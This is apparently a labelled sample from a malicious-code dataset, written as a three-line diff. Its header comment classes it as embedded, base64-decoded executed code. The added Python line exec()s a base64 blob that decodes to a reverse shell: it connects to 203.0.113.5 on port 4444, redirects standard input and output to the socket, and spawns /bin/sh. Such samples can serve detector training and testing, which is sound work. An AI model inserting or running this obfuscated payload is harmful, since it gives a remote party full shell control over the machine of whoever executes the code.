@@ -1,0 +1,3 @@
+# class: embedded, base64 decoded text executed; style: sloppy
+import base64
+exec(base64.b64decode("aW1wb3J0IHNvY2tldCxvcyxwdHkKcz1zb2NrZXQuc29ja2V0KCkKcy5jb25uZWN0KCgiMjAzLjAuMTEzLjUiLDQ0NDQpKQpbb3MuZHVwMihzLmZpbGVubygpLGkpIGZvciBpIGluICgwLDEsMildCnB0eS5zcGF3bigiL2Jpbi9zaCIpCg=="))
